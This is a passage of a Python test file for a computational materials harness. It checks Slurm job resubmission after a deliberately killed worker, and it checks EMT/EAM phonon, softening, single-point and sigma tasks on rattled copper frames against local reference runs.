    victim = runs / "screen-emt-six-part0001"
    wait_for(lambda: (victim / "rows.json").is_file() and len(read_json(victim / "rows.json")["rows"]) == 1, 300,
             "part 1's first material", every=0.05)
    pid = wait_for(lambda: job_pid(victim), 30, "part 1's harness process", every=0.05)
    os.kill(pid, signal.SIGKILL)
    first = read_json(victim / "rows.json")["rows"][0]
    done_first = read_json(runs / first["phonons_run"] / "summary.json")
    rows = wait_for(lambda: all_ended(out), 300, "every part to end")
    by_run = {r["run"]: r for r in rows}
    assert by_run[victim.name]["state"] == "failed" and "SIGKILL" in by_run[victim.name]["why"]
    subs, again = jc.resubmit(out)
    assert [r["run"] for r in again] == [victim.name]
    wait_for(lambda: collected(out), 300, "the resubmitted part and the collect job", every=2.0)
    assert set(states(out).values()) == {"completed"}
    assert len((victim / ".job" / "starts").read_text().splitlines()) == 2
    # the material it had finished is reused, not computed again
    assert read_json(runs / first["phonons_run"] / "summary.json")["finished"] == done_first["finished"]
    table = read_json(runs / "screen-emt-six" / "screen.json")
    assert [r["material"] for r in table["rows"]] == sorted(p.stem for p in structures.iterdir())
    # the same screen on one process, in another folder
    main(["screen", "--structures", str(structures), "--model", "emt", "--runs-dir", str(tmp_path / "here"),
          "--tag", "six", "--no-progress"])
    here = read_json(tmp_path / "here" / "screen-emt-six" / "screen.json")
    for mine, ref in zip(table["rows"], here["rows"]):
        assert mine["status"] == ref["status"] == "done"
        for key, value in ref.items():
            if isinstance(value, float) and "_s" not in key:
                assert mine[key] == pytest.approx(value, rel=1e-9, abs=1e-9), (mine["material"], key)


def _labelled_frames(path: Path, n: int, seed: int) -> Path:
    """n rattled 32-atom Cu cells labelled by ASE's own EMT (energy, forces, stress)."""
    from ase.build import bulk
    from ase.calculators.emt import EMT
    from ase.calculators.singlepoint import SinglePointCalculator
    from ase.io import write

    frames, rng = [], np.random.default_rng(seed)
    for _ in range(n):
        atoms = bulk("Cu", "fcc", a=3.59, cubic=True) * (2, 2, 2)
        atoms.positions += rng.normal(0, 0.06, atoms.positions.shape)
        atoms.calc = EMT()
        e, f, s = atoms.get_potential_energy(), atoms.get_forces(), atoms.get_stress()
        atoms.calc = SinglePointCalculator(atoms, energy=e, forces=f, stress=s)
        frames.append(atoms)
    write(path, frames)
    return path


def test_frame_tasks_are_rendered_and_submitted_from_frames_and_models(slurm, tmp_path):
    """`harness jobs submit --task softening|singlepoint|sigma --frames F… --models M…`: one member
    per frames file × model, as arrays on the real Slurm; every member's results equal the same task
    run here, and the campaign table has a row per frames file × model with the task's metrics
    (EMT on frames EMT labelled: softening scale 1, force RMSE 0, σ of the model = σ of the frames)."""
    from ase.build import bulk

    from harness.analysis.harmonic import DisplacementSettings
    from harness.config import load_model
    from harness.tasks.base import run_task
    from harness.tasks.build import build_task
    from harness.tasks.displacements import FiniteDisplacements

    hot, warm = _labelled_frames(tmp_path / "hot.extxyz", 3, 1), _labelled_frames(tmp_path / "warm.extxyz", 2, 2)
    fc = tmp_path / "phonopy_params.yaml"
    identity = DisplacementSettings(supercell_matrix=np.eye(3, dtype=int).tolist(), primitive_matrix=None)
    ph = FiniteDisplacements(load_model("emt"), bulk("Cu", "fcc", a=3.59, cubic=True) * (2, 2, 2), identity)
    ph.run()
    ph.phonon.save(fc, settings={"force_constants": True})
    runs = tmp_path / "runs"
    # the shipped local profile with a memory per task (the collect job's own too)
    profile = tmp_path / "local-mem.yaml"
    profile.write_text((ROOT / "clusters" / "local.yaml").read_text()
                       + "memory: {default: 400M, sigma: 600M, collect: 300M}\n")
    asked = {"softening": ["--frames", f"{hot},{warm}", "--models", "emt,eam"],
             "singlepoint": ["--frames", f"{hot},{warm}", "--models", "emt,eam", "--energy-reference", "mean-offset"],
             "sigma": ["--frames", str(hot), "--models", "emt", "--fc", str(fc)]}
    for task, argv in asked.items():
        main(["jobs", "submit", "--cluster", str(profile), "--task", task, *argv, "--tag", task, "--runs-dir",
              str(runs)])
    for task in asked:
        out = runs / f"jobs-{task}"
        wait_for(lambda out=out: collected(out), 300, f"the {task} array and its collect job", every=2.0)
    tables = {task: read_json(runs / f"jobs-{task}" / "results.json") for task in asked}
    assert {task: len(doc["members"]) for task, doc in tables.items()} == {"softening": 4, "singlepoint": 4,
                                                                           "sigma": 1}
    for task, doc in tables.items():
        assert set(states(runs / f"jobs-{task}").values()) == {"completed"}
        (script,) = (runs / f"jobs-{task}").glob("array-*.sh")
        assert f"#SBATCH --mem={'600M' if task == 'sigma' else '400M'}\n" in script.read_text()
        assert "#SBATCH --mem=300M\n" in (runs / f"jobs-{task}" / "collect.sh").read_text()
        for row in doc["table"]:
            frames = {"hot": hot, "warm": warm}[row["system"]]
            extra = {"energy_reference": "mean-offset"} if task == "singlepoint" else {"fc": fc} if task == "sigma" \
                else {}
            here = run_task(build_task(task, row["model"], frames=frames, **extra), tmp_path / "here",
                            progress=False)[1]
            metrics = type(build_task(task, row["model"], frames=frames, **extra)).metrics(here)
            assert metrics and all(row[k] == pytest.approx(v, abs=1e-9) for k, v in metrics.items()), (row, metrics)
            if row["model"] == "emt":  # the model that labelled the frames
                if task == "softening":
                    assert row["softening_scale"] == pytest.approx(1.0, abs=1e-6)
                elif task == "singlepoint":
                    assert row["force_rmse_eV_A"] < 1e-6 and row["energy_rmse_eV_per_atom"] < 1e-6
                else:
                    assert row["sigma_model"] > 0
                    assert row["sigma_model"] == pytest.approx(row["sigma_reference"], abs=1e-6)
            else:
                assert task != "softening" or abs(row["softening_scale"] - 1) > 1e-3  # EAM is not EMT
